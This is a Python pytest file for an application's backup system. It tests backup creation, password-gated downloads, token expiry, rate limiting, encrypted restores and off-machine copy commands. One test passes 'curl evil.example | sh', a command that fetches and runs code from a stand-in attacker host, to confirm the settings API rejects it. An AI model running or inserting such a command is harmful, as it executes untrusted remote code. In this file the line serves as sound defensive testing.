"""Backups by themselves: asked for, made, checked, downloaded with the password again, and put back."""

from __future__ import annotations

import hashlib
import os
import shutil
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyrage
import pytest

from jack.channels.types import Media
from jack.core.db import Database
from jack.operations import backup_runs
from jack.resources.attachments import store as attachments
from jack.resources.auth import passwords, sessions
from jack.resources.backups import folder, store
from jack.worker import backup_process
from jack.worker.backup_process import BackupOptions
from tests.builders import make_conversation, make_guest
from tests.checks import refused, succeeded
from tests.commands import typed
from tests.conftest import PASSWORD, Person


@pytest.fixture
def ada(admin: Person) -> Person:
    """An administrator with a password."""
    sessions.replace_password(
        admin.db, admin.id, passwords.hashed(PASSWORD), by=admin.id, except_id=_session(admin)
    )
    return admin


def _session(person: Person) -> str:
    found = person.db.value("SELECT id FROM sessions WHERE staff_id = :id", {"id": person.id})
    return str(found)


def made(person: Person, **options: Any) -> dict[str, Any]:
    """A backup that was asked for, as it is answered once it is made."""
    asked = succeeded(person.post("/backups"), 202)
    assert asked["status"] == "queued"
    backup_runs.run_due(person.db, BackupOptions(**options))
    return dict(succeeded(person.get(f"/backups/{asked['id']}")))


def path_of(person: Person, backup: dict[str, Any]) -> Path:
    return folder.folder_beside(person.db.path) / str(backup["file"])


def test_one_is_made_opened_and_counted(admin: Person) -> None:
    for number in range(3):
        make_guest(admin.db, name=f"Guest {number}")
    make_conversation(admin.db)
    found = made(admin)
    assert (found["status"], found["reason"], found["error"]) == ("done", "asked", None)
    counts = {"guests": 4, "conversations": 1, "messages": 1, "tasks": 0}
    assert found["counts"] == counts | {"files": 0, "damagedFiles": 0}
    file = path_of(admin, found)
    assert found["bytes"] == file.stat().st_size
    assert {path.name for path in file.parent.iterdir()} == {file.name, f"{file.name}.json"}
    assert {path.stat().st_mode & 0o777 for path in file.parent.iterdir()} == {0o600}
    (listed_one,) = succeeded(admin.get("/backups"))
    assert listed_one == found


def test_whoever_asks_twice_is_answered_the_same(admin: Person) -> None:
    first, second = (succeeded(admin.post("/backups"), 202) for _ in range(2))
    assert first["id"] == second["id"]


def test_a_full_disk_is_said(admin: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    usage = shutil.disk_usage(admin.db.path)
    monkeypatch.setattr(shutil, "disk_usage", lambda path: usage._replace(free=1000))
    found = made(admin)
    assert found["status"] == "failed"
    assert "Not enough space" in found["error"]


def test_it_is_downloaded_with_the_password_again(ada: Person) -> None:
    make_guest(ada.db)
    backup = made(ada)
    path = f"/backups/{backup['id']}"
    refused(ada.get(f"{path}/file"), 403, reason="password_required")
    refused(ada.post(f"{path}/token", {"password": "wrong"}), 401, reason="invalid_credentials")
    token = succeeded(ada.post(f"{path}/token", {"password": PASSWORD}))["token"]
    answer = ada.get(f"{path}/file?token={token}")
    assert answer.status_code == 200
    content = path_of(ada, backup).read_bytes()
    assert answer.data == content
    assert f'filename="{backup["file"]}"' in answer.headers["Content-Disposition"]
    assert answer.headers["ETag"] == f'"{hashlib.sha256(content).hexdigest()[:24]}"'
    audit = succeeded(ada.get("/audit?action=backup.*"))
    assert [line["action"] for line in audit] == ["backup.released", "backup.created"]


def test_a_token_is_for_one_person_one_backup_and_ten_minutes(
    app: Any, ada: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    backup, other = made(ada), Person(app, "admin", "Olga")
    path = f"/backups/{backup['id']}"
    token = succeeded(ada.post(f"{path}/token", {"password": PASSWORD}))["token"]
    refused(other.get(f"{path}/file?token={token}"), 403, reason="password_required")
    moved = f"{int(token.partition('.')[0]) + 60}.{token.partition('.')[2]}"
    refused(ada.get(f"{path}/file?token={moved}"), 403, reason="password_required")
    now = ada.db.time
    monkeypatch.setattr(ada.db, "time", lambda: now() + 601)
    refused(ada.get(f"{path}/file?token={token}"), 403, reason="password_required")


def test_passwords_cannot_be_guessed(ada: Person) -> None:
    backup = made(ada)
    answers = [
        ada.post(f"/backups/{backup['id']}/token", {"password": "wrong"}).status_code
        for _ in range(11)
    ]
    assert answers == [401] * 10 + [429]


def test_what_is_destroyed_is_restored_and_well(
    admin: Person, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    names = {make_guest(admin.db, name=f"Guest {number}")["name"] for number in range(50)}
    file = path_of(admin, made(admin))
    instance, kept = admin.db.path.parent, tmp_path / "elsewhere"
    admin.db.close()
    shutil.copytree(instance / "backups", kept)
    shutil.rmtree(instance)
    for name in os.environ:
        if name.startswith("JACK_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("JACK_INSTANCE", str(tmp_path / "new"))
    shutil.copytree(kept, tmp_path / "new/backups")
    shown = typed("restore")
    assert f"{file.name}  " in shown.output
    assert "50 guests, 0 messages" in shown.output
    assert typed("restore", file.name).exit_code == 0
    assert "is whole" in typed("verify").output
    db = Database(tmp_path / "new/jack.db")
    assert set(db.column("SELECT name FROM guests")) == names
    store.adopt(db)
    assert db.column("SELECT file FROM backups WHERE status = 'done'") == [file.name]
    db.close()


def test_an_encrypted_one_needs_the_key(
    admin: Person, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    make_guest(admin.db, name="Zoë Secret")
    key = pyrage.x25519.Identity.generate()
    backup = made(admin, recipients=(str(key.to_public()),))
    file = path_of(admin, backup)
    assert (backup["encrypted"], file.suffix) == (True, ".age")
    assert {path.name for path in file.parent.iterdir()} == {file.name, f"{file.name}.json"}
    assert b"Secret" not in file.read_bytes()
    admin.db.close()
    monkeypatch.setenv("JACK_INSTANCE", str(tmp_path / "new"))
    assert "--identity" in typed("restore", str(file)).output
    wrong, right = tmp_path / "wrong", tmp_path / "right"
    wrong.write_text(f"# created\n{pyrage.x25519.Identity.generate()}\n")
    right.write_text(f"# created\n{key}\n")
    assert "cannot be decrypted" in typed("restore", str(file), "--identity", str(wrong)).output
    restored = typed("restore", str(file), "--identity", str(right))
    assert restored.exit_code == 0, restored.output
    db = Database(tmp_path / "new/jack.db")
    assert db.column("SELECT name FROM guests") == ["Zoë Secret"]
    db.close()
    assert not list((tmp_path / "new").glob("decrypted-*"))


def test_the_command_copies_it_off_the_machine(admin: Person, tmp_path: Path) -> None:
    away = tmp_path / "away"
    away.mkdir()
    found = made(admin, command=f'cp "$JACK_BACKUP_FILE" {away}')
    assert (found["copyError"], found["copiedAt"] is None) == (None, False)
    assert [path.name for path in away.iterdir()] == [found["file"]]


def test_a_command_that_fails_is_said_and_tried_again(admin: Person, tmp_path: Path) -> None:
    there = tmp_path / "there"
    command = f"test -e {there}"
    found = made(admin, command=command)
    assert (found["status"], found["copyError"]) == ("done", "JACK_BACKUP_COMMAND ended with 1.")
    there.touch()
    backup_runs.run_due(admin.db, BackupOptions(command))
    assert store.get(admin.db, found["id"])["copied_at"] is not None


def test_the_command_is_not_told_the_keys(
    admin: Person, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("JACK_SECRET_KEY", "hush-hush")
    seen = tmp_path / "seen"
    made(admin, command=f"env > {seen}")
    assert "JACK_BACKUP_FILE=" in seen.read_text()
    assert "hush-hush" not in seen.read_text()


def test_no_api_sets_the_command(admin: Person) -> None:
    value = {"enabled": True, "command": "curl evil.example | sh"}
    error = refused(admin.put("/settings/backups", {"value": value}), 400)
    assert error["details"][0]["field"] == "value.command"


def test_files_deleted_by_hand_are_listed_no_longer(admin: Person) -> None:
    path_of(admin, made(admin)).unlink()
    backup_runs.run_due(admin.db, BackupOptions())
    assert succeeded(admin.get("/backups")) == []


def test_the_worker_makes_it_in_a_process_of_its_own(
    admin: Person, worker: Callable[[], bool]
) -> None:
    asked = succeeded(admin.post("/backups"), 202)
    backup_process.run(BackupOptions(), threading.Event(), admin.db)
    assert store.get(admin.db, asked["id"])["status"] == "done"


def test_a_killed_one_is_made_anew(admin: Person) -> None:
    asked = succeeded(admin.post("/backups"), 202)
    store.begin(admin.db, asked["id"])
    name = folder.name_of(asked["createdAt"], asked["id"])
    left = folder.folder_beside(admin.db.path) / f"{name}.db.partial"
    left.write_bytes(b"half of it")
    backup_runs.run_due(admin.db, BackupOptions())
    assert store.get(admin.db, asked["id"])["status"] == "done"
    assert not left.exists()


def test_one_process_at_a_time_makes_them(admin: Person) -> None:
    asked = succeeded(admin.post("/backups"), 202)
    lock = backup_runs.WorkerLock(admin.db.path.with_name(backup_runs.LOCK))
    assert lock.acquire()
    backup_runs.run_due(admin.db, BackupOptions())
    assert store.get(admin.db, asked["id"])["status"] == "queued"
    lock.release()


def test_a_damaged_attachment_is_counted_and_stops_no_backup(admin: Person) -> None:
    name = stored_file(admin.db)
    found = made(admin)
    assert (found["counts"]["files"], found["counts"]["damagedFiles"]) == (1, 0)
    assert path_of(admin, found).suffix == ".tar"
    path = admin.db.path.parent / "attachments" / name
    path.write_bytes(path.read_bytes()[::-1])
    again = made(admin)
    assert (again["status"], again["counts"]["damagedFiles"]) == ("done", 1)


def stored_file(db: Database) -> str:
    """A file of a message, as it is below `attachments/`."""
    conversation = make_conversation(db)
    found = {"id": conversation["id"]}
    message = db.value("SELECT id FROM messages WHERE conversation_id = :id", found)
    content = b"%PDF-1.7 an invoice"
    attachments.create_received(db, message, "web:1", [Media(name="a.pdf", content=content)])
    return str(db.value("SELECT file FROM attachments"))
